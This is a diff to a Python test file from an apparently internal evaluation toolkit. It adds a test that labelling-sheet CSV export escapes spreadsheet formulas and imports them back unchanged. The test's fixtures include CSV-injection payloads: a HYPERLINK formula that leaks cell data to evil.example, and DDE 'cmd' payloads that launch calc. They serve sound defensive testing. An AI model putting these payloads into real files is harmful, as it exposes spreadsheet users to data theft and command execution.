@@ -9,9 +9,10 @@ carrying a reason no sheet, session or notebook may show.
 from __future__ import annotations
 
 import ast
+import csv
+import getpass
 import html
 import json
-import re
 from dataclasses import replace
 from pathlib import Path
 
@@ -33,7 +34,7 @@ from evalkit.judges.labelling import (
 )
 from evalkit.judges.labelling_session import open_labelling
 from evalkit.judges.labelling_widget import card_html, press, show_labelling
-from evalkit.judges.labels import output_hash
+from evalkit.judges.labels import output_hash, restore_cell
 from evalkit.notebooks import execute_notebook, notebook_path
 from evalkit.scorers.judge_client import load_rubric
 from evalkit.store import open_store
@@ -222,6 +223,67 @@ def test_a_filled_sheet_imports_skipping_the_rows_left_blank(store_env, tmp_path
     assert set(labels["output_hash"]) == set(filled.filter(pl.col("item") <= 12)["output_hash"])
 
 
+#: Model outputs (and case ids, and a rater) that a spreadsheet would run as a formula.
+HOSTILE = {
+    "=cmd": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+plus": "+1+cmd|' /C calc'!A0",
+    "-minus": "-2+3",
+    "@at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "quoted": "'=already quoted",
+    "plain": 'Refund issued, "thanks".',
+}
+
+
+def test_a_csv_sheet_holds_no_formula_and_imports_back_exactly(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rubric = tmp_path / "corpus" / "rubrics" / "tone.md"
+    rubric.parent.mkdir(parents=True)
+    rubric.write_text(RUBRIC)
+    (tmp_path / "corpus" / "evalkit.yaml").write_text("suite: demo\n")
+    run = make_run("run-1", [C(case_id, "p", ["=SUM(A1)"]) for case_id in HOSTILE], label="base")
+    outputs = run.outputs.with_columns(text=pl.col("case_id").replace_strict(HOSTILE))
+    digest = load_rubric(rubric).hash
+    details = json.dumps({"rubric": "rubrics/tone.md", "rubric_hash": digest, "judge_score": 4})
+    judge = pl.DataFrame([
+        {"run_id": "run-1", "case_id": c, "replay": 0, "scorer": "judge", "scorer_index": 2,
+         "tier": 3, "score": 0.75, "passed": True, "error": False, "reason": "ok",
+         "details": details}
+        for c in HOSTILE
+    ])  # fmt: skip
+    scores = pl.concat([run.scores, judge], how="diagonal_relaxed")
+    db = tmp_path / "e.duckdb"
+    write_store(db, [replace(run, outputs=outputs, scores=scores)])
+    sheet, raw = tmp_path / "s.csv", tmp_path / "s.jsonl"
+    for out in (sheet, raw):
+        assert _export(db, rubric, out, "--rater", "=ana") == 0
+    capsys.readouterr()
+
+    rows = list(csv.reader(sheet.open(newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert len(rows) == 1 + len(HOSTILE)
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    # restoring each cell gives back exactly what the unescaped JSONL sheet holds
+    header, *body = rows
+    restored = [dict(zip(header, map(restore_cell, row), strict=True)) for row in body]
+    original = [json.loads(line) for line in raw.read_text().splitlines()]
+    for got, want in zip(restored, original, strict=True):
+        assert got == {k: "" if v is None else str(v) for k, v in want.items()}
+    assert {r["output"] for r in restored} == set(HOSTILE.values())
+
+    # a rater fills in the labels in the sheet as exported; import names the original values
+    filled = [header, *[[*row[:9], "4", row[10]] for row in body]]
+    with sheet.open("w", newline="") as handle:
+        csv.writer(handle).writerows(filled)
+    assert main(["labels", "import", str(sheet), "--db", str(db), "--run", "base"]) == 0
+    with open_store(db, read_only=True) as store:
+        labels = store.human_labels("judge")
+    assert set(labels["case_id"]) == set(HOSTILE) and set(labels["rater"]) == {"=ana"}
+    assert set(labels["output_hash"]) == {output_hash(t) for t in HOSTILE.values()}
+
+
 # --------------------------------------------------------------------------- the session
 
 
@@ -269,7 +331,7 @@ def test_two_raters_label_apart_resume_and_calibrate(store_env) -> None:
     assert stored.group_by("rater").len().sort("rater").rows() == [("ana", 20), ("ben", 20)]
     assert set(stored["source"]) == {"labelling:run-1"}
     # calibrate works on them: ana agrees with the judge, ben ties her on every third item
-    with open_store(db) as store:
+    with open_store(db, write=True) as store:
         result = calibrate(store, "base", rubric=rubric, iters=200)
     positions = {i.output_hash: i.position for i in ana.sample.items}
     agreeing = sum(ana.labels[h] == ben.labels[h] for h in positions)
@@ -433,7 +495,9 @@ def test_the_labelling_notebook_resumes_a_scripted_rater(store_env, tmp_path: Pa
     assert html.escape(expected.output) in text  # the card of item 4
     assert LEAK not in text and "judge_score" not in text
     assert store_labels_of(db, "ana").height == 3  # opening the view labels nothing
+    # RATER left empty: the login name labels (the notebook runs untouched)
     out, ename, message = execute_notebook(
         "labelling.ipynb", tmp_path / "nb" / "nobody.ipynb", params | {"RATER": ""}
     )
-    assert ename == "ValueError" and re.search("set RATER to your name", message)
+    assert ename is None, message
+    assert f"{getpass.getuser()}: 0 of 8 labelled, on item 1" in _shown(json.loads(out.read_text()))
